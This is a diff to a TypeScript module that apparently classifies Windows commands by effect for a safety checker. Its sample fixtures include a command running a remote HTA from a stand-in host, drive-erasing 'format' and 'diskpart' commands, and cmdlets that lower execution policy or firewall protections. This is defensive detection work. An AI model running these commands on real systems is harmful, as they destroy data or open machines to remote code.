@@ -2,7 +2,7 @@ import type { Family, FixedEffect, ProgramDescriptor } from './descriptor.ts';
 import { sharing } from './shapes.ts';
 
 /** What a program of Windows does, unless the words of the call say that it only looks. */
-function doing(summary: string, looks: RegExp, effect: FixedEffect, match: string, notMatch: string): () => ProgramDescriptor {
+function doing(summary: string, looks: RegExp, effect: FixedEffect, match: string, notMatch?: string): () => ProgramDescriptor {
   return () => ({
     summary,
     inspect: ({ operands, path }) => {
@@ -10,7 +10,7 @@ function doing(summary: string, looks: RegExp, effect: FixedEffect, match: strin
       return looks.test(words) ? [] : [{ ...effect, note: `${path[0]}: ${summary}` }];
     },
     match: { [match]: effect.kind },
-    notMatch: { [notMatch]: effect.kind },
+    ...(notMatch !== undefined && { notMatch: { [notMatch]: effect.kind } }),
   });
 }
 
@@ -94,7 +94,7 @@ export const windowsPrograms: Family = {
     'bcdedit /set x on',
     'bcdedit /enum',
   ),
-  ...sharing('format format.com', doing('erases a drive', never, erased, 'format D:', 'format /?')),
+  'format.com': doing('erases a drive', never, erased, 'format.com D:', 'format.com /?'),
   ...sharing(
     'diskpart clear-disk format-volume initialize-disk remove-partition',
     doing('erases disks', never, erased, 'diskpart /s x.txt', 'diskpart /?'),
@@ -121,19 +121,19 @@ export const windowsPrograms: Family = {
   ),
   ...sharing(
     'mshta rundll32 regsvr32 installutil msbuild.exe cscript wscript',
-    doing('runs code from elsewhere', never, foreignCode, 'mshta https://x.example/a.hta', 'mshta /?'),
+    doing('runs code from elsewhere', never, foreignCode, 'mshta https://x.example/a.hta'),
   ),
   ...sharing(
     'set-executionpolicy set-mppreference add-mppreference set-netfirewallprofile new-netfirewallrule disable-netfirewallrule',
-    doing('lowers a protection', never, guards, 'set-executionpolicy Unrestricted', 'set-executionpolicy -?'),
+    doing('lowers a protection', never, guards, 'set-executionpolicy Unrestricted'),
   ),
   ...sharing(
     'register-scheduledtask new-scheduledtask set-scheduledtask',
-    doing('plans what runs later', never, scheduled, 'register-scheduledtask x', 'register-scheduledtask -?'),
+    doing('plans what runs later', never, scheduled, 'register-scheduledtask x'),
   ),
   ...sharing(
     'new-localuser set-localuser remove-localuser add-localgroupmember enable-psremoting',
-    doing('changes accounts', never, accounts, 'new-localuser x', 'new-localuser -?'),
+    doing('changes accounts', never, accounts, 'new-localuser x'),
   ),
   setx: doing('changes variables for everything that starts later', never, environment, 'setx PATH x', 'setx /?'),
   attrib: () => ({ summary: 'shows or changes flags of files' }),
@@ -176,5 +176,4 @@ export const windowsPrograms: Family = {
     'bitsadmin /transfer x',
     'bitsadmin /list',
   ),
-  clip: () => ({ summary: 'keeps the standard input for pasting' }),
 };
